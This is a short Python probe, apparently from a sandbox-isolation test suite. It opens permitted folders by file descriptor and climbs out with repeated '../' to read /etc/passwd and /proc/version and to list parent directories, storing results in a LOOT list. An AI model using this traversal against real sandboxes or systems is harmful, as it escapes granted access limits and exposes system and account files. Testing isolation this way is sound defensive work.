"""Climbs with `..` from a folder that it may open, by descriptor, to files it may not."""
import contextlib
import os

for start in ("/usr/lib", "/sys/devices/system/cpu"):
    with contextlib.suppress(OSError):
        folder = os.open(start, os.O_RDONLY | os.O_DIRECTORY)
        for path in ("../" * 9 + "etc/passwd", "../" * 9 + "proc/version"):
            with contextlib.suppress(OSError):
                LOOT.append((path, len(os.read(os.open(path, os.O_RDONLY, dir_fd=folder), 20))))
        with contextlib.suppress(OSError):
            LOOT.append(os.listdir(os.open("..", os.O_RDONLY, dir_fd=folder)))
